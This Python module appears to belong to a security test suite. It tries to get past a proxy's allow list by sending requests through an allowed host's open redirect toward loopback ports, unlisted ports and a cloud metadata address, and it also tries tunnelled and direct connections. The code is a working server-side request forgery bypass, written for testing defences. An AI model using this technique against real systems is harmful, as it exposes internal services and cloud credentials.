"""
Has the listed host redirect to addresses and ports that the list does not have, and follows: by the
proxy, in a tunnel and directly.
"""

import socket

from support.attempts import attempt
from support.listed import evidence, listen_to
from support.proxied import reach_by_proxy, say_to_proxy, tunnel


def attack(target):
    reach_by_proxy(target)
    listed = f"{target['listed_name']}:{target['listed_port']}"

    def following(place, follow):
        def go():
            answer = say_to_proxy(
                f"GET http://{listed}/?to=http://{place}/ HTTP/1.1\r\n"
                f"Host: {listed}\r\nConnection: close\r\n\r\n".encode()
            )
            if target["token"] in answer:
                return f"the proxy follows, and it says {target['token']}"
            if f"Location: http://{place}/" not in answer:
                raise RuntimeError(f"the listed host does not redirect: {answer[:200]}")
            return follow(place)

        return go

    def by_tunnel(place):
        return evidence(target, tunnel(place).encode())

    def directly(place):
        host, port = place.split(":")
        return listen_to(target, socket.gethostbyname(host), int(port))

    return attempt(
        {
            f"{place}, {name}": following(place, follow)
            for place in (
                f"127.0.0.1:{target['loopback_port']}",
                f"127.0.0.1:{target['unlisted_port']}",
                f"{target['listed_name']}:{target['loopback_port']}",
                f"{target['metadata_address']}:80",
            )
            for name, follow in (("by a tunnel", by_tunnel), ("directly", directly))
        }
    )
